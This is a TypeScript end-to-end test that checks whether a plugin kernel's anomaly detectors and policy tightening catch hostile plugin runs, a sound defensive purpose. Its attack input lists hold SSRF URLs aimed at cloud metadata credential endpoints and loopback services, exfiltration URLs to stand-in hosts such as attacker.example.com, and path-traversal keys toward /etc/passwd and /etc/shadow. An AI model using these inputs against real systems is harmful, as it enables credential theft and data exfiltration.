// Diagnostics end to end, on real runs of the signed example plugins under one kernel (issue 8):
//
// 1. Evaluation. Normal runs of hello, kv-counter and fetcher (varied inputs, including the inputs fetcher normally
//    gets; there is no internet here, so its fetches fail in the host — a normal-run variety) are learned per
//    package name and version, through `createStoreBaselines` on the kernel's own store. Fresh normal runs and
//    attack runs are then scored; the test prints the detection and false-positive rates and asserts that every
//    attack is flagged and no normal run is.
//
//    Which baseline an attack is scored against. Baselines are per package, so an attack is only a fair test
//    when it is scored against its own package's normal runs. Two kinds of attack run:
//    - "a known package behaving differently": the same signed fetcher and kv-counter, driven by hostile input
//      (SSRF to the cloud metadata address and loopback, exfiltration to a host outside the manifest, a userinfo
//      URL trick, kv keys that traverse out of the counter space). No new build is needed: the package is the
//      same, only what it does differs, and it is scored against its own baseline.
//    - rogue's attempts (passwd, write-outside, dotdot, symlink, net, all). Every input of rogue is hostile (an
//      unknown input throws before any call), so rogue has no normal runs of its own. Its runs are scored
//      against a fleet baseline: the normal runs of all example plugins learned under one shared key — "does
//      this look like any well-behaved plugin signed by this root?". The kernel's detector falls back to that
//      key for a package without a baseline of its own; the rule detector, which needs no baseline, is
//      reported separately so the figures show what the fallback adds.
//    Not counted: rogue's resource attacks (alloc, loop) are stopped by the sandbox limits and make only
//    ordinary calls (alloc is flagged, but only because the fleet never logged twice in a row); and fetcher
//    exfiltrating to a host its manifest allows is, call by call, a normal run — printed as known blind spots.
//    Most attack runs here are also refused by the gate, and refused calls are symbols of their own to the
//    sequence detector; the test also prints how many attack runs would be flagged had every call been allowed.
//
// 2. A run of rogue heats a cell of the heatmap (rendered as SVG); the plan tightens plugin:rogue × the hot syscall
//    through the kernel's policy engine, audited in the kernel's audit log; run after run the cell stays hot and
//    climbs the ladder audit → deny → quarantine: rogue's fetches that its manifest allows are denied by the
//    tightening, then its first fetch quarantines it. fetcher is untouched. Reverting restores the policy.
//
// The heatmaps are written to a temp directory, or to $FORGEONE_E2E_ARTIFACTS when set (to look at them).
// (Self-tests through the kernel are covered in kernel.test.ts.)
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  analyzeTrace,
  applyTightening,
  buildHeatmap,
  createDetectorSet,
  createFrequencyDetector,
  createRuleDetector,
  createSequenceDetector,
  createStoreBaselines,
  heatColor,
  planTightening,
  renderHeatmapSvg,
  revertTightening,
  type AppliedTightening,
  type BaselineKey,
  type DetectorSetResult,
  type HeatmapRun,
  type RunRecords,
} from '@forgeone/diagnostics';
import { createKernel, type ContainerReport, type Kernel } from '@forgeone/kernel';
import { parseTrace, verifyTrace, type Trace } from '@forgeone/observer';
import { createMemoryStore } from '@forgeone/store';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const here = dirname(fileURLToPath(import.meta.url));
const ROOT = resolve(here, '../../..');
const TRUST_ROOT = join(ROOT, '.forgeone-dev', 'trust-root.json');
const PACKAGES = new Map(['hello', 'kv-counter', 'fetcher', 'rogue'].map((n) => [n, new Uint8Array(readFileSync(join(ROOT, 'plugins', n, 'dist', `${n}.forgepkg`)))]));
const pkg = (name: string): Uint8Array => PACKAGES.get(name)!;

/** A run is flagged when the combined score reaches this (the detectors' `medium`). */
const THRESHOLD = 0.5;
/** The fleet baseline: every example plugin's normal runs under one key, for packages without a baseline. */
const FLEET: BaselineKey = { packageName: 'fleet:example-plugins', packageVersion: '1' };

// Normal inputs: what each plugin is for. Learned from TRAIN, then FRESH is scored (values not seen in training).
const TRAIN: readonly (readonly [string, string])[] = [
  ...['ForgeOne', 'world', '', 'Ada', 'Grace Hopper', 'Zürich'].map((i) => ['hello', i] as const),
  ...['visits', 'visits', 'clicks', '', 'a/b', 'visits'].map((i) => ['kv-counter', i] as const),
  ...['https://example.com/', 'https://www.example.com/index.html', 'https://api.example.com/v1/items?id=7', 'https://cdn.example.com/a/b/c.png', 'https://example.com:443/x', 'not a url'].map(
    (i) => ['fetcher', i] as const,
  ),
];
const FRESH: readonly (readonly [string, string])[] = [
  ...['Linus', 'ForgeOne', 'Ελένη', 'x'.repeat(200), '', '  spaced  ', '🙂', "O'Brien"].map((i) => ['hello', i] as const),
  ...['visits', 'downloads', '', 'a/c', 'clicks', 'user-42', 'visits', 'very/deep/name'].map((i) => ['kv-counter', i] as const),
  ...[
    'https://example.com/about',
    'https://docs.example.com/guide/intro',
    'https://api.example.com/v2/users/42?fields=name',
    'https://example.com/?q=forge+one',
    'ftp://example.com/',
    'https://EXAMPLE.com/Upper',
    'https://a.b.example.com/deep/sub',
    'https://example.com/#frag',
  ].map((i) => ['fetcher', i] as const),
];
// The same packages driven by hostile input: scored against their own baselines.
const SAME_PACKAGE_ATTACKS: readonly (readonly [string, string])[] = [
  ['fetcher', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['fetcher', 'http://metadata.google.internal/computeMetadata/v1/'],
  ['fetcher', 'http://127.0.0.1:2375/containers/json'],
  ['fetcher', 'http://localhost:6379/'],
  ['fetcher', 'https://evil.example.net/exfiltrate?d=secret'],
  ['fetcher', 'https://example.com@evil.example.net/'],
  ['fetcher', 'https://example.com.evil.net/'],
  ['kv-counter', '../../../etc/passwd'],
  ['kv-counter', '../../other-plugin/secret'],
  ['kv-counter', '..'],
  ['kv-counter', '/etc/shadow'],
];
// rogue: scored against the fleet baseline (it has no normal runs).
const ROGUE_ATTACKS = ['passwd', 'write-outside', 'dotdot', 'symlink', 'net', 'all'] as const;

let tmp: string;
let kernel: Kernel;
const store = createMemoryStore();
const baselines = createStoreBaselines(store);
const detector = createDetectorSet([createSequenceDetector({ baselines }), createFrequencyDetector({ baselines }), createRuleDetector()]);

/** A package's own baseline when it has one, else the fleet's. */
async function scoreRun(records: RunRecords, key: BaselineKey): Promise<{ key: BaselineKey; result: DetectorSetResult }> {
  const own = await detector.score(records, key);
  if (own.baseline) return { key, result: own };
  const fleet = await detector.score(records, FLEET);
  return fleet.baseline ? { key: FLEET, result: fleet } : { key, result: own };
}

const quarantined = new Set<string>();
const onQuarantine = new Map<string, () => void>();
let launches = 0;

interface Run {
  readonly plugin: string;
  readonly input: string;
  readonly report: ContainerReport;
  readonly trace: Trace;
  /** Whether the kernel quarantined it (it was then terminated). */
  readonly quarantined: boolean;
}

/** Launch one plugin and wait for its end; a quarantined container is terminated once the quarantine is audited. */
async function launch(plugin: string, input: string, cpuBudgetMs = 20_000): Promise<Run> {
  const handle = await kernel.launch({ package: pkg(plugin), input, name: `${plugin}-${launches++}`, cpuBudgetMs });
  const held = new Promise<void>((res) => {
    if (quarantined.has(handle.id)) res();
    else onQuarantine.set(handle.id, res);
  });
  const ended = await Promise.race([handle.done.then(() => 'done' as const), held.then(() => 'quarantined' as const)]);
  if (ended === 'quarantined') {
    // The kernel appends the quarantine audit event before it announces the quarantine.
    expect(await kernel.audit.query({ kind: 'quarantine', subject: handle.id })).toHaveLength(1);
    await kernel.terminate(handle.id, 'e2e: quarantined');
  }
  onQuarantine.delete(handle.id);
  const report = await handle.done;
  const text = await kernel.exportTrace(handle.id);
  expect(verifyTrace(text, { trustedKeys: [kernel.kernelKey], crypto: kernel.crypto }).ok).toBe(true);
  return { plugin, input, report, trace: parseTrace(text, kernel.crypto), quarantined: ended === 'quarantined' };
}

/**
 * Run many, at most as many at once as the scheduler has CPU slots: a workload queued longer than the scheduler's
 * aging interval outranks (and preempts) a running one, which would turn a normal run into a terminated one.
 */
async function launchAll(list: readonly (readonly [string, string])[]): Promise<Run[]> {
  const out: Run[] = new Array<Run>(list.length);
  let next = 0;
  const lanes = Math.max(1, Math.min(kernel.config.scheduler.cpuSlots, list.length));
  await Promise.all(
    Array.from({ length: lanes }, async () => {
      while (next < list.length) {
        const i = next++;
        const [plugin, input] = list[i]!;
        out[i] = await launch(plugin, input);
      }
    }),
  );
  return out;
}

const keyOf = (run: Run): BaselineKey => ({ packageName: run.trace.header.package.name, packageVersion: run.trace.header.package.version });
const label = (run: Run): string => `${run.plugin}(${JSON.stringify(run.input.length > 40 ? `${run.input.slice(0, 39)}…` : run.input)})`;
const pct = (n: number, d: number): string => `${n}/${d} = ${d === 0 ? '-' : ((100 * n) / d).toFixed(1)}%`;
const toHeatmapRun = (run: Run): HeatmapRun => ({ subject: run.trace.header.identity.subject, containerId: run.trace.header.containerId, records: run.trace.records, flags: run.trace.summary?.flags ?? [] });

interface Corpus {
  readonly fresh: readonly Run[];
  readonly samePackage: readonly Run[];
  readonly rogue: readonly Run[];
}
let corpusPromise: Promise<Corpus> | undefined;

/** Normal runs → learned baselines → fresh normal runs and attack runs, all through the kernel. Built once. */
function corpus(): Promise<Corpus> {
  corpusPromise ??= (async () => {
    const training = await launchAll(TRAIN);
    for (const r of training) expect(r.report.record.status, `${label(r)}: ${r.report.error?.message ?? ''}`).toBe('stopped');
    const byPackage = new Map<string, Run[]>();
    for (const r of training) byPackage.set(r.plugin, [...(byPackage.get(r.plugin) ?? []), r]);
    for (const runs of byPackage.values()) await detector.learn(runs.map((r) => r.trace.records), keyOf(runs[0]!));
    await detector.learn(training.map((r) => r.trace.records), FLEET);
    const fresh = await launchAll(FRESH);
    const samePackage = await launchAll(SAME_PACKAGE_ATTACKS);
    const rogue = await launchAll(ROGUE_ATTACKS.map((a) => ['rogue', a] as const));
    return { fresh, samePackage, rogue };
  })();
  return corpusPromise;
}

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'forgeone-diagnostics-e2e-'));
  kernel = await createKernel({
    trustRoot: TRUST_ROOT,
    store,
    cacheDir: join(tmp, 'cache'),
    boot: { measureKernel: false },
    // The kernel scores every finished run; the flags go into the trace summary and the explanation.
    anomalyDetector: { score: async (records, key) => (await scoreRun(records, key)).result },
  });
  kernel.onEvent((e) => {
    if (e.type !== 'quarantine') return;
    quarantined.add(e.id);
    onQuarantine.get(e.id)?.();
  });
});

afterAll(async () => {
  await kernel?.shutdown();
  rmSync(tmp, { recursive: true, force: true });
});

describe('anomaly detection on real plugin runs', () => {
  it('learns per-package baselines in the kernel store, flags every attack run and no fresh normal run', async () => {
    const { fresh, samePackage, rogue } = await corpus();
    // The baselines are in the kernel's store, per detector and package version.
    expect(kernel.store).toBe(store);
    const stored = (await baselines.list()).map((e) => `${e.detector} ${e.packageName}@${e.packageVersion}`);
    for (const d of ['sequence', 'frequency']) {
      for (const p of ['hello@1.0.0', 'kv-counter@1.0.0', 'fetcher@1.0.0', `${FLEET.packageName}@${FLEET.packageVersion}`]) expect(stored).toContain(`${d} ${p}`);
      expect(stored).not.toContain(`${d} rogue@1.0.0`);
    }

    const lines: string[] = [];
    const score = async (run: Run): Promise<{ key: BaselineKey; result: DetectorSetResult }> => {
      const s = await scoreRun(run.trace.records, keyOf(run));
      // What the kernel put in the trace summary is what the detector says about the recorded run.
      expect(
        (run.trace.summary?.flags ?? []).map((f) => f.name),
        label(run),
      ).toEqual(s.result.flags.map((f) => f.name));
      const parts = s.result.parts.map((p) => `${p.detector} ${p.score.toFixed(2)}`).join(', ');
      const flags = s.result.flags.map((f) => `${f.severity} ${f.name}`).join(', ');
      lines.push(`  ${s.result.score >= THRESHOLD ? 'FLAGGED' : 'normal '} ${s.result.score.toFixed(2)}  ${label(run).padEnd(52)} vs ${s.key.packageName} [${parts}]${flags === '' ? '' : ` ${flags}`}`);
      return s;
    };

    lines.push('fresh normal runs (own baselines):');
    let falsePositives = 0;
    for (const r of fresh) {
      expect(r.report.record.status, label(r)).toBe('stopped');
      const s = await score(r);
      expect(s.key, label(r)).toEqual(keyOf(r));
      if (s.result.score >= THRESHOLD) falsePositives++;
    }
    lines.push('same packages, hostile input (own baselines):');
    let samePackageDetected = 0;
    for (const r of samePackage) {
      const s = await score(r);
      expect(s.key, label(r)).toEqual(keyOf(r));
      if (s.result.score >= THRESHOLD) samePackageDetected++;
      // The kernel's explanation names the flags.
      for (const f of s.result.flags) expect(r.report.explanation.text).toContain(f.name);
      expect(r.report.explanation.json.verdict.level, label(r)).not.toBe('clean');
      // Analysing the recorded trace again (as one would an exported trace) counts the kernel's flags once: the
      // integrity is the trace summary's.
      const analysis = await analyzeTrace(r.trace, detector);
      expect(analysis.explanation.json.flags.map((f) => f.name)).toEqual(s.result.flags.map((f) => f.name));
      expect(Math.round(analysis.explanation.json.integrity.score * 1000)).toBe(r.report.summary.integrity);
    }
    lines.push('rogue (no baseline of its own: the fleet baseline):');
    let rogueDetected = 0;
    let rogueByRulesAlone = 0;
    for (const r of rogue) {
      const s = await score(r);
      expect(s.key, label(r)).toEqual(FLEET);
      if (s.result.score >= THRESHOLD) rogueDetected++;
      if ((s.result.parts.find((p) => p.detector === 'rules')?.score ?? 0) >= THRESHOLD) rogueByRulesAlone++;
    }
    // rogue 'all' ends in the red zone after its fifth denial.
    expect(rogue.find((r) => r.input === 'all')?.quarantined).toBe(true);

    // Known blind spots, measured and printed, not counted.
    lines.push('not counted (blind spots):');
    const blind = await Promise.all([launch('rogue', 'alloc'), launch('rogue', 'loop', 1000), launch('fetcher', 'https://attacker.example.com/collect?d=secret')]);
    expect(blind[0]!.report.error?.code).toBe('SANDBOX_MEMORY_EXCEEDED');
    expect(blind[1]!.report.error?.code).toBe('SANDBOX_CPU_EXCEEDED');
    for (const r of blind) await score(r);

    // What the detectors add beyond the gate: the same attack runs as if every call had been allowed (a policy
    // too loose to refuse them). Printed, not asserted.
    let asIfAllowed = 0;
    const missedIfAllowed: string[] = [];
    for (const r of [...samePackage, ...rogue]) {
      const allowed = r.trace.records.map((x) => ({ ...x, verdict: 'allow' as const, allowed: true, rule: 'e2e/as-if-allowed' }));
      if ((await scoreRun(allowed, keyOf(r))).result.score >= THRESHOLD) asIfAllowed++;
      else missedIfAllowed.push(label(r));
    }

    const attacks = samePackage.length + rogue.length;
    const detected = samePackageDetected + rogueDetected;
    console.log(
      [
        `diagnostics e2e: sequence + frequency + rules (max), threshold ${THRESHOLD}, trained on ${TRAIN.length} normal runs (${TRAIN.length / 3} per package)`,
        `  detection rate ${pct(detected, attacks)} (same package, hostile input: ${pct(samePackageDetected, samePackage.length)}; rogue vs the fleet baseline: ${pct(rogueDetected, rogue.length)}, by the rules alone ${pct(rogueByRulesAlone, rogue.length)})`,
        `  false-positive rate ${pct(falsePositives, fresh.length)}`,
        `  the attack runs as if the gate had allowed every call: ${pct(asIfAllowed, attacks)} flagged${missedIfAllowed.length === 0 ? '' : `; missed ${missedIfAllowed.join(', ')}`}`,
        ...lines,
      ].join('\n'),
    );
    expect(falsePositives).toBe(0);
    expect(samePackageDetected).toBe(samePackage.length);
    expect(rogueDetected).toBe(rogue.length);
  });
});

describe('heatmap → tightening → the next run is stricter', () => {
  it('a run of rogue heats plugin:rogue × forgeone:http/fetch; the cell climbs audit → deny → quarantine, audited, and reverts', async () => {
    const { fresh, rogue } = await corpus();
    const CELL = { row: 'plugin:rogue', col: 'forgeone:http/fetch' };
    const audit = (e: Parameters<Kernel['audit']['append']>[0]): Promise<unknown> => kernel.audit.append(e);
    const applied: AppliedTightening[] = [];

    /** Heatmap of rogue's run with the fresh normal runs; plan from what is in force; apply; return the step of CELL. */
    const tighten = async (run: Run, svgName?: string): Promise<AppliedTightening> => {
      const heatmap = buildHeatmap([...fresh.map(toHeatmapRun), toHeatmapRun(run)]);
      const hot = heatmap.identitySyscall.cells.filter((c) => c.score >= THRESHOLD);
      // Only rogue's row is hot: normal runs heat nothing.
      expect(hot.map((c) => c.row)).toEqual(hot.map(() => CELL.row));
      const cell = hot.find((c) => c.row === CELL.row && c.col === CELL.col);
      expect(cell, JSON.stringify(heatmap.identitySyscall.cells.filter((c) => c.row === CELL.row))).toBeDefined();
      if (svgName !== undefined) {
        const svg = renderHeatmapSvg(heatmap, { title: `rogue ${run.input} among normal runs` });
        const file = join(process.env.FORGEONE_E2E_ARTIFACTS ?? tmp, svgName);
        writeFileSync(file, svg);
        // The hot cell is in the image: its tooltip names it, in its heat colour.
        const text = readFileSync(file, 'utf8');
        const drawn = new RegExp(`<g><title>${CELL.row} × ${CELL.col}: ${cell!.calls} call\\(s\\), ${cell!.denials} refused, ${cell!.anomalies} flag\\(s\\)[^<]*</title><rect [^>]*fill="(#[0-9a-f]{6})"`).exec(text);
        expect(drawn?.[1]).toBe(heatColor(cell!.score));
        expect(text).toContain(`>${CELL.col}</text>`);
        expect(text).toContain(`>${CELL.row}</text>`);
      }
      const plan = planTightening(heatmap, { current: kernel.policy.tightenings });
      expect(plan.steps.every((s) => s.subject === CELL.row)).toBe(true);
      let mine: AppliedTightening | undefined;
      for (const step of plan.steps) {
        const a = await applyTightening(kernel.policy, step, { audit });
        applied.push(a);
        if (step.syscall === CELL.col) mine = a;
      }
      expect(mine).toBeDefined();
      return mine!;
    };
    const fetches = (run: Run): { verdict: string; rule: string | null }[] => run.trace.records.filter((r) => r.syscall === CELL.col).map((r) => ({ verdict: r.verdict, rule: r.rule }));

    // Heat comes from rogue 'net' (four refused fetches, the metadata address, loopback). Its fetches go to hosts
    // its manifest does not grant, and a call outside the manifest is refused before the kernel policy (and its
    // tightenings) is consulted — so the stricter policy shows in rogue 'dotdot', whose two fetches go to
    // api.example.com, which the manifest grants.
    const dotdot0 = rogue.find((r) => r.input === 'dotdot')!;
    expect(fetches(dotdot0)).toEqual([
      { verdict: 'allow', rule: 'base/network' },
      { verdict: 'allow', rule: 'base/network' },
    ]);

    // 1. rogue 'net' from the evaluation heats the cell → audit.
    const t1 = await tighten(rogue.find((r) => r.input === 'net')!, 'heatmap-1.svg');
    expect(t1.step.from).toBeNull();
    expect(t1.tightening.action).toBe('audit');

    // 2. The next runs: dotdot's granted fetches are now decided (audited) by the tightening; net keeps the cell
    //    hot → deny (the delay rung is skipped: the policy engine has no such action).
    const [net2, dotdot2] = await Promise.all([launch('rogue', 'net'), launch('rogue', 'dotdot')]);
    expect(fetches(dotdot2)).toEqual([
      { verdict: 'audit', rule: `tightening/${t1.tightening.id}` },
      { verdict: 'audit', rule: `tightening/${t1.tightening.id}` },
    ]);
    const t2 = await tighten(net2, 'heatmap-2.svg');
    expect(t2.step.from).toBe('audit');
    expect(t2.tightening.action).toBe('deny');
    expect(t2.step.skipped.map((s) => s.rung)).toEqual(['delay']);

    // 3. Stricter: the fetches its manifest grants are denied by the tightening; fetcher is untouched. Still hot →
    //    quarantine.
    const [net3, dotdot3, fetcher3] = await Promise.all([launch('rogue', 'net'), launch('rogue', 'dotdot'), launch('fetcher', 'https://example.com/')]);
    expect(fetches(dotdot3)).toEqual([
      { verdict: 'deny', rule: `tightening/${t2.tightening.id}` },
      { verdict: 'deny', rule: `tightening/${t2.tightening.id}` },
    ]);
    expect(dotdot3.report.explanation.text).toContain(`tightening/${t2.tightening.id}`);
    expect(fetches(fetcher3)).toEqual([{ verdict: 'allow', rule: 'base/network' }]);
    const t3 = await tighten(net3);
    expect(t3.step.from).toBe('deny');
    expect(t3.tightening.action).toBe('quarantine');

    // 4. The next run is quarantined at its first fetch (the gate holds its next call; the kernel moves it to the
    //    red zone, audited; it is terminated): the second fetch is never performed.
    const dotdot4 = await launch('rogue', 'dotdot');
    expect(dotdot4.quarantined).toBe(true);
    const performed = dotdot4.trace.records.filter((r) => r.syscall === CELL.col && r.verdict !== 'suspended' && r.verdict !== 'terminated');
    expect(performed.map((r) => ({ verdict: r.verdict, rule: r.rule }))).toEqual([{ verdict: 'quarantine', rule: `tightening/${t3.tightening.id}` }]);
    expect((await kernel.audit.query({ kind: 'quarantine', subject: dotdot4.report.id }))[0]?.details).toMatchObject({ reason: expect.stringContaining(`tightening/${t3.tightening.id}`) });

    // The audit log has each step twice over: the kernel's record of the policy change, and diagnostics' record of
    // why (the cell, its heat, the rung it came from).
    const changes = await kernel.audit.query({ kind: 'policy.changed' });
    for (const a of applied) {
      const id = a.tightening.id;
      expect(changes.filter((e) => e.details.tightening === id).map((e) => e.details)).toEqual([expect.objectContaining({ change: 'tightened', action: a.tightening.action })]);
      expect(changes.filter((e) => e.details.tighteningId === id).map((e) => ({ actor: e.actor, ...e.details }))).toEqual([
        expect.objectContaining({ actor: 'diagnostics:tightening', change: 'tightened', action: a.tightening.action, from: a.step.from, identity: CELL.row, syscall: a.step.syscall }),
      ]);
    }
    expect((await kernel.audit.verify()).ok).toBe(true);

    // Revert every step: the policy is what it was, audited, and rogue's allowed fetches are allowed again.
    for (const a of [...applied].reverse()) await revertTightening(kernel.policy, a.tightening.id, { audit, reason: 'e2e: revert' });
    expect(kernel.policy.tightenings).toEqual([]);
    const reverted = (await kernel.audit.query({ kind: 'policy.changed' })).filter((e) => e.details.change === 'reverted');
    for (const a of applied) {
      expect(reverted.filter((e) => e.details.tightening === a.tightening.id || e.details.tighteningId === a.tightening.id).map((e) => e.actor)).toEqual(['diagnostics:tightening', 'diagnostics:tightening']);
    }
    const dotdotReverted = await launch('rogue', 'dotdot');
    expect(fetches(dotdotReverted)).toEqual(fetches(dotdot0));
    console.log(
      [
        'tightening of plugin:rogue × forgeone:http/fetch, run after run:',
        ...[t1, t2, t3].map((t) => `  ${t.step.from ?? 'none'} → ${t.tightening.action} (heat ${t.step.score.toFixed(2)}, ${t.step.denials} refused, ${t.step.anomalies} flags): tightening/${t.tightening.id}`),
        `  other steps applied: ${applied.filter((a) => a.step.syscall !== CELL.col).map((a) => `${a.step.syscall} → ${a.tightening.action}`).join(', ') || 'none'}`,
      ].join('\n'),
    );
  });
});
